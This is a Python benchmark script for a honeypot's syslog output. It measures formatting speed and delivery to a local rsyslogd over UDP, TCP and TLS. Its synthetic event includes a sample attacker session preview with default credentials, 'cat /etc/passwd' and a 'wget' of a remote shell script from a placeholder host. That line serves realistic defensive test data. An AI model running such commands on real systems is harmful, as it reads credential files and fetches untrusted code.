"""Syslog output throughput and cost: events formatted per second, and events a real rsyslogd
received per second over UDP, TCP and TLS from one SyslogOutput on this process's reactor.

Each run publishes ``--events`` trap.session observations (a realistic detail: trap, ports,
a 200-byte preview) to the output in bursts of 500 with a reactor turn between bursts, then
waits (at most 60 s) until rsyslog's file holds them all, or (UDP, where a datagram the
collector's socket buffer had no room for is lost) until no line came for 2 s; the time is
from the first publish to the last line written. One JSON line per transport, plus the
formatting cost alone.

    .venv/bin/python bench/outputs.py [--events 20000]
"""

from __future__ import annotations

import argparse
import json
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from twisted.internet import defer, reactor, task

from bench import _args as argtypes
from honeymesh.config import SyslogOutputConfig
from honeymesh.events import EventId, JSONValue, Observation
from honeymesh.outputs.rfc5424 import FACILITIES, Header, message
from honeymesh.outputs.syslog import SyslogOutput
from tests.e2e.rsyslog import Rsyslog, running_rsyslog

R: Any = reactor


def event(n: int) -> Observation:
    detail: dict[str, JSONValue] = {
        "trap": "ssh", "transport": "tcp", "local_address": "192.0.2.1", "port": 22,
        "source_port": 40000 + n % 20000, "bytes_received": 512, "duration": 1.5,
        "preview": ("root\r\n123456\r\ncat /etc/passwd; wget http://x/y.sh\r\n" * 4)[:200],
        "closed_by": "client", "bench": n,
    }  # fmt: skip
    return Observation(EventId.TRAP_SESSION, 1_796_000_000.0 + n, f"198.51.100.{n % 250}", detail)


def format_rate(count: int) -> float:
    header = Header(FACILITIES["local0"], "bench", "honeymesh", "1")
    events = [event(n) for n in range(count)]
    start = time.perf_counter()
    for e in events:
        message(e, header)
    return count / (time.perf_counter() - start)


async def run(rsyslog: Rsyslog, transport: str, count: int) -> dict[str, Any]:
    port = {"udp": rsyslog.udp, "tcp": rsyslog.tcp, "tls": rsyslog.tls}[transport]
    config = SyslogOutputConfig(
        name=f"bench-{transport}", transport=transport, port=port, max_queue=count,  # type: ignore[arg-type]
        server_name="localhost" if transport == "tls" else "",
    )  # fmt: skip
    output = SyslogOutput(
        config, R, hostname="bench", ca=rsyslog.cert if transport == "tls" else None
    )
    output.startService()
    while transport != "udp" and output.status()["state"] != "connected":
        await task.deferLater(R, 0.01, lambda: None)
    path = rsyslog.directory / "received.jsonl"
    before = len(path.read_bytes().splitlines()) if path.exists() else 0
    start = time.perf_counter()
    for first in range(0, count, 500):
        for n in range(first, min(first + 500, count)):
            output.on_event(event(n))
        await task.deferLater(R, 0, lambda: None)
    published = time.perf_counter() - start
    deadline = time.monotonic() + 60
    got, last_change = 0, time.perf_counter()
    while time.monotonic() < deadline and got < count:
        now = len(path.read_bytes().splitlines()) - before if path.exists() else 0
        if now != got:
            got, last_change = now, time.perf_counter()
        elif time.perf_counter() - last_change > 2.0:  # UDP: what was lost stays lost
            break
        await task.deferLater(R, 0.05, lambda: None)
    elapsed = last_change - start
    status = output.status()
    await output.stopService()
    return {
        "transport": transport, "events": count, "received": got,
        "publish_seconds": round(published, 3), "seconds": round(elapsed, 3),
        "events_per_second": round(got / elapsed), "sent": status["sent"],
        "dropped": status["dropped"],
    }  # fmt: skip


async def main(count: int) -> None:
    print(json.dumps({"format_per_second": round(format_rate(count))}))
    with tempfile.TemporaryDirectory() as where, running_rsyslog(Path(where)) as rsyslog:
        for transport in ("udp", "tcp", "tls"):
            print(json.dumps(await run(rsyslog, transport, count)), flush=True)


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--events", type=argtypes.count, default=20_000)
    args = parser.parse_args()
    d = defer.ensureDeferred(main(args.events))
    d.addErrback(lambda f: print(f.getTraceback(), file=sys.stderr))
    d.addBoth(lambda _: R.stop())
    R.run()
